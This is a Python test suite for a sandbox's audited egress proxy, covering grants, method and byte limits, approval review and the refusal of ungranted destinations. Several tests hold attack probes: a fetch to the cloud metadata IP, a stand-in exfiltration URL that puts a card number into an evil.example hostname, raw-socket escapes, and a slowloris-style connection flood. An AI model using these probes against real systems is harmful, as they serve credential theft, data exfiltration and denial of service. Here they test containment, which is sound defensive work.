"""tests/test_egress.py: issue 15, audited egress on approval, end to end.

Local servers on this host stand in for the internet (tests/egress_servers.py: a plain HTTP
origin, an HTTPS one with a self-signed certificate, a PEP 503 index with one wheel, and one
more origin that no grant names). The stack's policy (POLICY below) gives grants naming them
by IP to snippets that carry a marker in their code; everything else falls to an allow rule
without a grant. Snippets run in the real sandbox through the real broker and worker, print
one JSON line (Python) or key=value lines (shell), and the tests check what they printed, what
the origins saw, and what the record holds."""
import json, os, re, sys, threading, time
sys.path.insert(0, os.path.dirname(__file__))
from harness import SLOW, Stack, check, run_all, test, wait_for
from egress_servers import HELLO, WHEEL_NAME, EgressServers

UID_BASE = 302000       # this suite's workers: their own host uid range (302000-302999)
SRV = None              # the local servers, started once
S = None                # the shared stack
TOKENS = iter(range(1, 1 << 30))


def token(what):
    """A marker unique to this run, put in a URL so that the origins' logs show who got through."""
    return "%s-%d-%d" % (what, os.getpid(), next(TOKENS))


def policy(srv):
    """Grants name the servers by IP (127.0.0.1: loopback is reachable only when the IP is
    named). First match wins; the markers are in the snippets' code (as comments)."""
    http, https, index = ("127.0.0.1:%d" % p for p in (srv.http_port, srv.https_port, srv.index_port))
    grant = {"allow": [http, https, index]}
    return {"version": 1, "defaults": {"quorum": 1, "ttl_s": 3600}, "rules": [
        {"name": "egress-allow", "match": {"code": "EGRESS_ALLOW"}, "action": "allow", "network": grant},
        {"name": "egress-review", "match": {"code": "EGRESS_REVIEW"}, "action": "review",
         "network": {"allow": [http, https]}},
        {"name": "egress-get-only", "match": {"code": "EGRESS_GET_ONLY"}, "action": "allow",
         "network": {"allow": [http, https], "methods": ["GET"]}},
        {"name": "egress-by-name", "match": {"code": "EGRESS_BY_NAME"}, "action": "allow",
         "network": {"allow": ["localhost:%d" % srv.http_port]}},
        {"name": "egress-cap-connections", "match": {"code": "EGRESS_CAP_CONNECTIONS"}, "action": "allow",
         "network": grant, "limits": {"egress_connections": 2}},
        {"name": "egress-cap-bytes", "match": {"code": "EGRESS_CAP_BYTES"}, "action": "allow",
         "network": grant, "limits": {"egress_bytes": 262144}},
        {"name": "rest", "action": "allow"},
    ]}


START_ERROR = None      # why the stack did not start (a broker without issue 15 refuses POLICY)


def shared():
    """The servers and the stack, started on first use; every test calls this first."""
    global S, SRV, START_ERROR
    if SRV is None:
        SRV = EgressServers().start()
    if S is None:
        if START_ERROR:
            raise AssertionError("the stack did not start: " + START_ERROR)
        try:
            S = Stack(slots=24, policy=policy(SRV), worker_args=["--uid-base", str(UID_BASE)])
        except RuntimeError as e:
            START_ERROR = str(e)
            raise
        p = S.cli("keygen", "alice", "--role", "approver")
        check(p.returncode == 0, p.stderr)
    return S


# What every Python snippet starts with. fetch() goes through the proxies the run's environment
# names, as urllib does by itself; NO_PROXY is set aside during the call because the test's
# origins are on 127.0.0.1, which a NO_PROXY list may name (a real destination would not be).
PRE = r'''
import json, os, socket, ssl, sys, time, urllib.error, urllib.parse, urllib.request
CERT = %(cert)r
PROXY_VARS = ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY", "http_proxy", "https_proxy", "all_proxy", "no_proxy")
def fetch(url, method="GET", data=None, timeout=20):
    saved = {k: os.environ.pop(k) for k in ("NO_PROXY", "no_proxy") if k in os.environ}
    t0 = time.monotonic()
    try:
        ctx = ssl.create_default_context(cadata=CERT)
        opener = urllib.request.build_opener(urllib.request.HTTPSHandler(context=ctx))
        with opener.open(urllib.request.Request(url, data=data, method=method), timeout=timeout) as r:
            total, head = 0, b""
            while True:
                b = r.read(1 << 20)
                if not b:
                    break
                head += b[:max(0, 64 - len(head))]
                total += len(b)
            return {"status": r.status, "len": total, "head": head.decode("latin-1"), "s": time.monotonic() - t0}
    except urllib.error.HTTPError as e:
        return {"status": e.code, "error": "HTTPError", "s": time.monotonic() - t0}
    except Exception as e:
        return {"status": None, "error": type(e).__name__, "detail": str(e)[:300], "s": time.monotonic() - t0}
    finally:
        os.environ.update(saved)
def connect(host, port, timeout=3):
    try:
        socket.create_connection((host, port), timeout=timeout).close()
        return "connected"
    except OSError as e:
        return "%%s:%%s" %% (type(e).__name__, e.errno)
def proxy_addr():
    p = os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy")
    if not p:
        return None
    u = urllib.parse.urlsplit(p if "://" in p else "http://" + p)
    return [u.hostname, u.port]
'''


def py(body, marker=""):
    """A Python snippet: marker (a policy marker, as a comment), the prelude, then body."""
    return "# %s\n" % marker + PRE % {"cert": SRV.cert_pem} + body


def out_json(r):
    """The JSON object a Python snippet printed last."""
    lines = [l for l in (r.get("stdout") or "").splitlines() if l.startswith("{")]
    check(lines, ("no JSON line in the output", {k: r.get(k) for k in ("outcome", "stdout", "stderr", "error_name",
                                                                       "error_value", "traceback", "rule")}))
    return json.loads(lines[-1])


def kv(r):
    """key=value lines of a shell snippet's stdout, as a dict (the last of each key)."""
    return dict(l.split("=", 1) for l in (r.get("stdout") or "").splitlines() if "=" in l)


def run(code, session, lang="python", timeout_s=60, **kw):
    c = shared().client()
    try:
        return c.run(code, lang=lang, session=session, timeout=timeout_s + 10, timeout_ms=timeout_s * 1000, **kw)
    finally:
        c.close()


def ok(r):
    check(r["state"] == "done" and r["outcome"] == "ok",
          {k: r.get(k) for k in ("state", "outcome", "rule", "stdout", "stderr", "error_name", "error_value", "traceback")})
    return r


def events(rid, type_="egress"):
    """The request's events of type_, in order, their data decoded, seq and actor added."""
    rows = shared().sql("select seq, actor, data from events where request_id = ? and type = ? order by seq", rid, type_)
    return [dict(json.loads(d), seq=seq, actor=actor) for seq, actor, d in rows]


def totals(rid):
    row = shared().sql("select egress_connections, egress_denied, egress_bytes_out, egress_bytes_in"
                       " from requests where id = ?", rid)[0]
    return dict(zip(("connections", "denied", "bytes_out", "bytes_in"), row))


def url(kind, path):
    return SRV.url(kind, path)


# --------------------------------------------------------------------------------------------
@test
def urllib_fetches_http_and_https_through_the_grant():
    shared()
    t = token("urllib")
    r = ok(run(py("""
out = {"env": {k: os.environ.get(k) for k in PROXY_VARS}, "proxy": proxy_addr()}
out["http"] = fetch(%r)
out["https"] = fetch(%r)
out["bytes"] = fetch(%r)
print(json.dumps(out))
""" % (url("http", "/hello?t=" + t), url("https", "/hello?t=" + t), url("http", "/bytes/300000?t=" + t)),
        "EGRESS_ALLOW"), "fetch"))
    o = out_json(r)
    check(r["rule"] == "egress-allow", r["rule"])
    # the run saw its proxy in the environment, at a loopback address of its own namespace
    for k in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"):
        check(o["env"][k], ("no %s in the run's environment" % k, o["env"]))
    check(o["proxy"] and (o["proxy"][0].startswith("127.") or o["proxy"][0] in ("::1", "localhost"))
          and o["proxy"][1], o)
    check(o["http"]["status"] == 200 and o["http"]["head"] == HELLO.decode(), o["http"])
    check(o["https"]["status"] == 200 and o["https"]["head"] == HELLO.decode(), o["https"])
    check(o["bytes"]["status"] == 200 and o["bytes"]["len"] == 300000, o["bytes"])
    # the origins saw the requests, with the Host the client asked for
    for kind, port in (("http", SRV.http_port), ("https", SRV.https_port)):
        seen = SRV.saw_path(kind, "/hello?t=" + t)
        check(len(seen) == 1 and seen[0]["host"] == "127.0.0.1:%d" % port, (kind, seen))
    check(SRV.saw_path("http", "/bytes/300000?t=" + t), "the download did not reach the origin")
    # the record: one egress event per connection, before the run's done transition
    ev = events(r["id"])
    check(all(e["actor"] == "w0" and e["outcome"] == "allowed" and "reason" not in e for e in ev), ev)
    hello = [e for e in ev if e["method"] == "GET" and e["port"] == SRV.http_port and e["bytes_in"] < 100000]
    check(hello and hello[0]["host"] == "127.0.0.1" and hello[0]["bytes_in"] >= len(HELLO)
          and hello[0]["bytes_out"] > 0 and isinstance(hello[0]["ms"], (int, float)), ev)
    tls = [e for e in ev if e["method"] == "CONNECT" and e["port"] == SRV.https_port]
    check(len(tls) == 1 and tls[0]["host"] == "127.0.0.1" and tls[0]["bytes_in"] >= len(HELLO)
          and tls[0]["bytes_out"] > 0, ("one CONNECT tunnel", ev))
    big = [e for e in ev if e["method"] == "GET" and e["bytes_in"] >= 300000]
    check(len(big) == 1 and big[0]["address"] == "127.0.0.1", ev)
    done = shared().sql("select min(seq) from events where request_id = ? and type = 'done'", r["id"])[0][0]
    check(done and max(e["seq"] for e in ev) < done, ("egress events after done", ev, done))
    # and the request row carries the totals
    tot = totals(r["id"])
    check(tot["connections"] == len(ev) >= 3 and tot["denied"] == 0, (tot, ev))
    check(tot["bytes_in"] == sum(e["bytes_in"] for e in ev) and tot["bytes_in"] >= 300000 + 2 * len(HELLO), (tot, ev))
    check(tot["bytes_out"] == sum(e["bytes_out"] for e in ev) and tot["bytes_out"] > 0, (tot, ev))
    check(r.get("egress_connections") == tot["connections"], ("the reply is the whole row", r.get("egress_connections")))
    # replay shows the connections in place; verify accepts the new events
    p = shared().cli("replay", "fetch", "--no-wait")
    check(p.returncode == 0 and "127.0.0.1:%d" % SRV.https_port in p.stdout and "CONNECT" in p.stdout,
          p.stdout[-2000:] + p.stderr)
    p = shared().cli("verify")
    check(p.returncode == 0, p.stdout + p.stderr)


@test
def curl_through_the_grant():
    shared()
    t = token("curl")
    code = """# EGRESS_ALLOW
cat > /tmp/egress-ca.pem <<'PEM'
%s
PEM
echo proxy=${http_proxy-none}
echo http=$(env -u NO_PROXY -u no_proxy curl -sS --fail -m 20 %s)
echo https=$(env -u NO_PROXY -u no_proxy curl -sS --fail -m 20 --cacert /tmp/egress-ca.pem %s)
echo size=$(env -u NO_PROXY -u no_proxy curl -sS --fail -m 20 -o /dev/null -w '%%{size_download}' %s)
""" % (SRV.cert_pem.strip(), url("http", "/hello?t=" + t), url("https", "/hello?t=" + t),
       url("http", "/bytes/200000?t=" + t))
    r = ok(run(code, "curl", lang="shell"))
    o = kv(r)
    check(o.get("proxy", "none") != "none", ("no http_proxy for curl", r["stdout"]))
    check(o.get("http") == HELLO.decode().strip() and o.get("https") == HELLO.decode().strip(), (r["stdout"], r["stderr"]))
    check(o.get("size") == "200000", r["stdout"])
    check(SRV.saw_path("http", "/hello?t=" + t) and SRV.saw_path("https", "/hello?t=" + t), "the origins saw no curl")
    ev = events(r["id"])
    check(sum(e["method"] == "CONNECT" for e in ev) == 1 and sum(e["method"] == "GET" for e in ev) == 2, ev)


@test
def pip_downloads_from_the_local_index():
    shared()
    code = """# EGRESS_ALLOW
rm -rf /tmp/wheels
env -u NO_PROXY -u no_proxy python3 -m pip download --no-deps --no-cache-dir --disable-pip-version-check \\
    --index-url %s -d /tmp/wheels tinypkg
echo rc=$?
echo files=$(ls /tmp/wheels)
echo sha=$(sha256sum /tmp/wheels/%s | cut -d' ' -f1)
""" % (SRV.index_url, WHEEL_NAME)
    r = ok(run(code, "pip", lang="shell", timeout_s=120))
    o = kv(r)
    check(o.get("rc") == "0" and o.get("files") == WHEEL_NAME, (r["stdout"], r["stderr"]))
    check(o.get("sha") == SRV.wheel_sha256, ("the wheel is not the one served", o))
    check(SRV.saw_path("index", "/simple/tinypkg/") and SRV.saw_path("index", "/packages/" + WHEEL_NAME),
          SRV.seen("index"))
    ev = events(r["id"])
    check(ev and all(e["port"] == SRV.index_port and e["outcome"] == "allowed" for e in ev), ev)
    check((totals(r["id"])["bytes_in"] or 0) >= len(SRV.wheel), totals(r["id"]))


@test
def destinations_outside_the_grant_are_refused():
    shared()
    t = token("deny")
    other = SRV.other_port
    r = ok(run(py("""
out = {}
out["other_http"] = fetch(%r)
out["other_https"] = fetch(%r)
out["metadata"] = fetch("http://169.254.169.254/latest/meta-data/?t=%s")
out["by_name"] = fetch(%r)
out["granted"] = fetch(%r)
print(json.dumps(out))
""" % ("http://127.0.0.1:%d/hello?t=%s" % (other, t), "https://127.0.0.1:%d/hello?t=%s" % (other, t), t,
       "http://localhost:%d/hello?t=%s" % (SRV.http_port, t), url("http", "/hello?t=granted-" + t)),
        "EGRESS_ALLOW"), "deny"))
    o = out_json(r)
    for k in ("other_http", "metadata", "by_name"):
        check(o[k]["status"] == 403, (k, o[k]))
    # a refused CONNECT: urllib raises on the tunnel's status line
    check(o["other_https"]["status"] is None and "403" in o["other_https"].get("detail", ""), o["other_https"])
    check(o["granted"]["status"] == 200, ("a refusal ended the proxy", o["granted"]))
    check(not SRV.seen("other"), ("a refused request reached a server", SRV.seen("other")))
    check(not SRV.saw_path("http", "/hello?t=" + t), ("localhost:PORT reached the origin", SRV.seen("http")))
    ev = events(r["id"])
    denied = [e for e in ev if e["outcome"] == "denied"]
    check(all(e.get("reason") for e in denied), denied)
    check(any(e["host"] == "169.254.169.254" and e["port"] == 80 for e in denied), ("metadata not recorded", ev))
    check(any(e["host"] == "localhost" and e["port"] == SRV.http_port for e in denied), ev)
    check(any(e["port"] == other and e["method"] == "CONNECT" for e in denied), ev)
    check(any(e["port"] == other and e["method"] == "GET" for e in denied), ev)
    tot = totals(r["id"])
    check(tot["denied"] == len(denied) >= 4 and tot["connections"] == len(ev), (tot, ev))


@test
def loopback_by_name_is_refused_even_when_granted():
    """The grant names localhost:PORT: the name resolves to loopback, which only a grant that
    names the IP may reach (a DNS name must not lead to the host's own services)."""
    shared()
    t = token("byname")
    r = ok(run(py("""
print(json.dumps({"name": fetch(%r), "ip": fetch(%r)}))
""" % ("http://localhost:%d/hello?t=%s" % (SRV.http_port, t), url("http", "/hello?t=ip-" + t)), "EGRESS_BY_NAME"),
        "byname"))
    check(r["rule"] == "egress-by-name", r["rule"])
    o = out_json(r)
    check(o["name"]["status"] == 403 and o["ip"]["status"] == 403, o)
    check(not SRV.saw_path("http", t), ("loopback reached through a name", SRV.seen("http")))
    ev = events(r["id"])
    check(len(ev) == 2 and all(e["outcome"] == "denied" and e.get("reason") for e in ev), ev)


@test
def a_secret_in_a_destination_is_masked_on_the_record():
    """A snippet can spell a secret into a name it asks for (the proxy refuses it: not in the
    grant); the record keeps the destination, masked like output."""
    shared()
    r = ok(run(py("""
print(json.dumps({"s": fetch("http://4111111111111111.evil.example/x")["status"]}))
""", "EGRESS_ALLOW"), "mask"))
    check(out_json(r)["s"] == 403, r["stdout"])
    ev = events(r["id"])
    check(len(ev) == 1 and ev[0]["host"] == "[MASKED:card-number].evil.example"
          and ev[0]["outcome"] == "denied", ev)
    leaked = shared().sql("select count (*) from events where data like '%4111111111111111%'")[0][0]
    check(leaked == 0, "the secret is in the event log")


def proxies_of(pid):
    """The pids of the egress proxies whose parent is pid."""
    found = []
    for d in os.listdir("/proc"):
        try:
            with open("/proc/%s/cmdline" % d, "rb") as f:
                cmd = f.read().split(b"\0")
            with open("/proc/%s/stat" % d) as f:
                ppid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            continue
        if b"--egress-proxy" in cmd and ppid == pid:
            found.append(int(d))
    return found


def alive(pid):
    try:
        with open("/proc/%d/stat" % pid) as f:
            return f.read().rsplit(")", 1)[1].split()[0] != "Z"
    except (OSError, IndexError):
        return False


@test
def a_proxy_dies_with_its_worker():
    """SIGKILL to the worker's back while a granted run holds its proxy: the proxy goes too
    (parent-death signal set after the proxy's uid changed, which clears it)."""
    shared()
    s = Stack(slots=2, policy=policy(SRV), worker_args=["--uid-base", str(UID_BASE + 100)])
    try:
        c = s.client()
        c.call("submit", lang="python", session="dies", code=py("""
print(fetch(%r)["status"], flush=True)
time.sleep(120)
""" % url("http", "/hello"), "EGRESS_ALLOW"), timeout=5)
        back = s.workers[0]
        proxies = wait_for(lambda: proxies_of(back.pid), 20, "the run's proxy")
        back.kill()
        back.wait(timeout=10)
        wait_for(lambda: not any(alive(p) for p in proxies), 10, "the proxy's end")
        c.close()
    finally:
        s.stop()


@test
def no_route_out_but_the_proxy():
    """In a run that has a grant (its proxy works), raw sockets and name lookups still fail:
    the grant is the proxy, not a route."""
    shared()
    t = token("raw")
    r = ok(run(py("""
out = {"fetch": fetch(%r)}
out["raw_origin"] = connect("127.0.0.1", %d)
out["raw_dns_server"] = connect("1.1.1.1", 53)
out["raw_metadata"] = connect("169.254.169.254", 80)
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"\\0" * 12, ("1.1.1.1", 53))
    s.settimeout(2)
    s.recv(512)
    out["udp"] = "answered"
except OSError as e:
    out["udp"] = type(e).__name__
try:
    out["dns"] = [a[4][0] for a in socket.getaddrinfo("example.com", 80)]
except OSError as e:
    out["dns"] = type(e).__name__
try:
    s = socket.create_connection(("127.0.0.1", %d), timeout=3)
    s.sendall(b"GET /hello?t=%s HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
    out["raw_request"] = s.recv(100).decode("latin-1")
except OSError as e:
    out["raw_request"] = type(e).__name__
print(json.dumps(out))
""" % (url("http", "/hello?t=ok-" + t), SRV.http_port, SRV.http_port, t), "EGRESS_ALLOW"), "raw"))
    o = out_json(r)
    check(o["fetch"]["status"] == 200, ("the proxy should work in this run", o["fetch"]))
    for k in ("raw_origin", "raw_dns_server", "raw_metadata"):
        check(o[k] != "connected", (k, o))
    check(o["udp"] != "answered" and isinstance(o["dns"], str), o)
    check(not o["raw_request"].startswith("HTTP/"), o)
    check(not SRV.saw_path("http", "/hello?t=" + t), "a raw socket reached the origin")


@test
def a_grant_does_not_outlive_its_run():
    shared()
    t = token("outlive")
    first = ok(run(py("""
held = None
out = {"proxy": proxy_addr(), "fetch": fetch(%r)}
if out["proxy"]:
    held = socket.create_connection(tuple(out["proxy"]), timeout=5)   # kept open past the run
saved_proxy = out["proxy"]
print(json.dumps(out))
""" % url("http", "/hello?t=first-" + t), "EGRESS_ALLOW"), "outlive"))
    o = out_json(first)
    check(o["fetch"]["status"] == 200 and o["proxy"], o)
    # the next snippet of the session falls to the rule without a grant
    second = ok(run(py("""
out = {"env": {k: os.environ.get(k) for k in PROXY_VARS if k in os.environ}}
out["connect_saved"] = connect(*saved_proxy)
try:
    held.settimeout(5)
    held.sendall(b"GET %s HTTP/1.1\\r\\nHost: 127.0.0.1:%d\\r\\n\\r\\n")
    out["held"] = held.recv(100).decode("latin-1")
except OSError as e:
    out["held"] = type(e).__name__
out["fetch"] = fetch(%r, timeout=5)
print(json.dumps(out))
""" % (url("http", "/hello?t=held-" + t), SRV.http_port, url("http", "/hello?t=second-" + t))), "outlive"))
    check(second["rule"] == "rest" and not second["session_reset"], (second["rule"], second["session_reset"]))
    o = out_json(second)
    check(o["env"] == {}, ("proxy variables left in the environment", o["env"]))
    check(o["connect_saved"] != "connected", ("the first run's proxy still listens", o))
    check(not o["held"].startswith("HTTP/"), ("a connection of the first run still goes out", o))
    check(o["fetch"]["status"] != 200, o["fetch"])
    check(not SRV.saw_path("http", "held-" + t) and not SRV.saw_path("http", "second-" + t), SRV.seen("http"))
    check(events(second["id"]) == [] and totals(second["id"])["connections"] is None, totals(second["id"]))
    check(totals(first["id"])["connections"] >= 1, totals(first["id"]))


@test
def a_shell_grant_does_not_outlive_its_run():
    shared()
    t = token("outlive-sh")
    first = ok(run("""# EGRESS_ALLOW
saved=$http_proxy
echo proxy=${HTTP_PROXY-none}
echo got=$(env -u NO_PROXY -u no_proxy curl -sS -m 10 %s)
""" % url("http", "/hello?t=first-" + t), "outlive-sh", lang="shell"))
    o = kv(first)
    check(o.get("proxy", "none") != "none" and o.get("got") == HELLO.decode().strip(), first["stdout"])
    second = ok(run("""
echo proxy=${HTTP_PROXY-none} lower=${http_proxy-none} all=${ALL_PROXY-none} https=${https_proxy-none}
echo env=$(env | grep -ciE '^(http|https|all|no)_proxy=')
echo saved=${saved-none}
env -u NO_PROXY -u no_proxy curl -sS -m 5 --proxy "$saved" %s; echo rc=$?
""" % url("http", "/hello?t=second-" + t), "outlive-sh", lang="shell"))
    o = kv(second)
    check(o.get("proxy") == "none lower=none all=none https=none" and o.get("env") == "0", second["stdout"])
    check(o.get("saved", "none") != "none", ("shell state was not carried: the test proves nothing", second["stdout"]))
    check(o.get("rc") not in (None, "0"), second["stdout"])
    check(not SRV.saw_path("http", "second-" + t), SRV.seen("http"))


@test
def review_grants_only_the_approved_snippet():
    s = shared()
    t = token("review")
    agent, alice = s.client("agent"), s.client("alice")
    try:
        code = py('print(json.dumps({"fetch": fetch(%r)}))' % url("http", "/hello?t=approved-" + t), "EGRESS_REVIEW")
        r = agent.call("submit", lang="python", code=code, session="rev", wait_ms=0, timeout_ms=60000)
        check(r["ok"] and r["state"] == "pending_approval" and r["rule"] == "egress-review", r)
        # the approver sees the grant being approved
        p = s.cli("pending", "--key", s.key("alice"))
        check(p.returncode == 0 and "127.0.0.1:%d" % SRV.http_port in p.stdout, p.stdout + p.stderr)
        limits = json.loads(s.sql("select limits from requests where id = ?", r["id"])[0][0])
        check(sorted(limits["network"]["allow"]) == sorted(["127.0.0.1:%d" % SRV.http_port,
                                                           "127.0.0.1:%d" % SRV.https_port]), limits)
        time.sleep(0.5)
        check(not SRV.saw_path("http", t), "a parked snippet ran")
        p = s.cli("approve", str(r["id"]), "--key", s.key("alice"))
        check(p.returncode == 0, p.stdout + p.stderr)
        done = agent.call("await", id=r["id"], timeout_ms=60000, timeout=70)
        ok(done)
        check(out_json(done)["fetch"]["status"] == 200, done["stdout"])
        check(SRV.saw_path("http", "approved-" + t), "the approved fetch did not reach the origin")
        # the next snippet in the session, under no grant, gets nothing
        nxt = ok(agent.run(py('print(json.dumps({"env": [k for k in PROXY_VARS if k in os.environ], "fetch": fetch(%r, timeout=5)}))'
                              % url("http", "/hello?t=after-" + t)), session="rev", timeout_ms=30000))
        o = out_json(nxt)
        check(nxt["rule"] == "rest" and o["env"] == [] and o["fetch"]["status"] != 200, o)
        check(not SRV.saw_path("http", "after-" + t), "an unapproved snippet got out")
        # a review snippet the approver denies never runs
        code = py('print(json.dumps({"fetch": fetch(%r)}))' % url("http", "/hello?t=denied-" + t), "EGRESS_REVIEW")
        r = agent.call("submit", lang="python", code=code, session="rev", wait_ms=0, timeout_ms=60000)
        check(r["state"] == "pending_approval", r)
        d = alice.call("deny", id=r["id"], reason="no egress today")
        check(d["ok"] and d["state"] == "denied", d)
        time.sleep(1)
        st = agent.call("status", id=r["id"])
        check(st["state"] == "denied" and st["started_at"] is None and st["stdout"] is None, st)
        check(events(r["id"]) == [] and totals(r["id"])["connections"] is None, "a denied snippet has egress")
        check(not SRV.saw_path("http", "denied-" + t), "a denied snippet ran")
    finally:
        agent.close()
        alice.close()


@test
def methods_narrow_the_grant():
    shared()
    t = token("methods")
    r = ok(run(py("""
print(json.dumps({"get": fetch(%r), "post": fetch(%r, method="POST", data=b"x=1"), "tls": fetch(%r)}))
""" % (url("http", "/hello?t=get-" + t), url("http", "/hello?t=post-" + t), url("https", "/hello?t=tls-" + t)),
        "EGRESS_GET_ONLY"), "methods"))
    o = out_json(r)
    check(o["get"]["status"] == 200, o)
    check(o["post"]["status"] == 403, ("POST under a GET-only grant", o))
    check(o["tls"]["status"] is None and "403" in o["tls"].get("detail", ""), ("CONNECT under a GET-only grant", o))
    check(SRV.saw_path("http", "get-" + t) and not SRV.saw_path("http", "post-" + t)
          and not SRV.saw_path("https", "tls-" + t), SRV.seen())
    ev = events(r["id"])
    check(sorted((e["method"], e["outcome"]) for e in ev) == [("CONNECT", "denied"), ("GET", "allowed"), ("POST", "denied")], ev)


@test
def connection_cap_ends_the_run():
    shared()
    t = token("capc")
    r = run(py("""
for i in range(5):
    f = fetch(%r + str(i))
    print(json.dumps({"i": i, "status": f["status"]}), flush=True)
time.sleep(5)                  # the worker ends the run when the proxy reports the cap: give it time
print("END")
""" % url("http", "/hello?t=%s-" % t), "EGRESS_CAP_CONNECTIONS"), "capc")
    check(r["state"] == "done" and r["outcome"] == "egress_limit", {k: r.get(k) for k in ("outcome", "stdout", "stderr")})
    check("END" not in (r["stdout"] or ""), r["stdout"])
    check(len(SRV.saw_path("http", t)) <= 2, SRV.saw_path("http", t))
    ev = events(r["id"])
    check(sum(e["outcome"] == "allowed" for e in ev) <= 2, ev)
    # the session's next snippet runs (afresh or not): the limit broke nothing else
    ok(run("1 + 1", "capc"))


@test
def byte_cap_ends_the_run():
    shared()
    t = token("capb")
    r = run(py("""
print(json.dumps({"big": fetch(%r)}), flush=True)
time.sleep(5)                  # the worker ends the run when the proxy reports the cap: give it time
print("END")
""" % url("http", "/bytes/5000000?t=" + t), "EGRESS_CAP_BYTES"), "capb")
    check(r["state"] == "done" and r["outcome"] == "egress_limit", {k: r.get(k) for k in ("outcome", "stdout", "stderr")})
    check("END" not in (r["stdout"] or ""), r["stdout"])
    tot = totals(r["id"])
    check(tot["bytes_in"] is not None and tot["bytes_in"] < 2000000, ("the proxy kept relaying past its cap", tot))
    ok(run("1 + 1", "capb"))


@test
def hostile_clients_stall_nobody_else():
    """A granted snippet holds 200 idle connections to its proxy (slowloris) and sends one 1 MB
    header; meanwhile another session without a grant answers promptly, another granted run
    fetches, and the hostile run itself still completes its own legitimate fetch."""
    s = shared()
    t = token("hostile")
    for session in ("bystander", "legit"):
        ok(run("1", session))        # their interpreters are up before the attack starts
    hostile = py("""
host, port = proxy_addr()
socks, errors = [], []
for i in range(200):
    try:
        socks.append(socket.create_connection((host, port), timeout=5))
    except OSError as e:
        errors.append(type(e).__name__)
        if len(errors) >= 3:         # the proxy stopped accepting: enough, do not wait 5 s each
            break
big = socket.create_connection((host, port), timeout=10)
try:
    big.sendall(b"GET %s HTTP/1.1\\r\\nHost: 127.0.0.1:%d\\r\\nX-Big: " + b"a" * (1 << 20) + b"\\r\\n\\r\\n")
    big_reply = big.recv(100).decode("latin-1")
except OSError as e:
    big_reply = type(e).__name__
ready = fetch(%r)
time.sleep(%d)
legit = fetch(%r)
print(json.dumps({"opened": len(socks), "errors": errors[:5], "big": big_reply, "ready": ready, "legit": legit}))
""" % (url("http", "/hello?t=big-" + t), SRV.http_port, url("http", "/hello?t=ready-" + t), 10 * SLOW,
       url("http", "/hello?t=own-" + t)), "EGRESS_ALLOW")
    agent = s.client("agent")
    try:
        h = agent.call("submit", lang="python", code=hostile, session="hostile", wait_ms=0, timeout_ms=90000)
        check(h["ok"], h)
        wait_for(lambda: SRV.saw_path("http", "ready-" + t), 60, "the hostile snippet to hold its connections")
        t0 = time.time()
        b = ok(run("6 * 7", "bystander"))
        quick = time.time() - t0
        check(b["value"] == "42" and quick < 5 * SLOW, ("a session without a grant was slowed", quick))
        t0 = time.time()
        g = ok(run(py('print(json.dumps({"fetch": fetch(%r)}))' % url("http", "/hello?t=legit-" + t), "EGRESS_ALLOW"),
                   "legit"))
        check(out_json(g)["fetch"]["status"] == 200 and time.time() - t0 < 10 * SLOW,
              ("another granted run was stalled", time.time() - t0, g["stdout"]))
        check(agent.call("status", id=h["id"])["state"] == "running", "the hostile run ended before the checks")
        done = agent.call("await", id=h["id"], timeout_ms=90000, timeout=100)
        ok(done)
        o = out_json(done)
        check(o["opened"] >= 100, ("the sandbox could not even open the connections", o))
        check(not o["big"].startswith("HTTP/1.1 200") and not o["big"].startswith("HTTP/1.0 200"), o["big"])
        check(not SRV.saw_path("http", "big-" + t), "a 1 MB header was forwarded")
        check(o["legit"]["status"] == 200, ("the hostile run's own fetch", o))
    finally:
        agent.close()


if __name__ == "__main__":
    try:
        rc = run_all("egress")
    finally:
        if S:
            bad = S.stop()
            if bad:
                print("sanitizer reports:\n" + "\n".join(bad))
                print("egress: 0 passed, 1 failed")
                rc = 1
        if SRV:
            SRV.stop()
    raise SystemExit(rc)
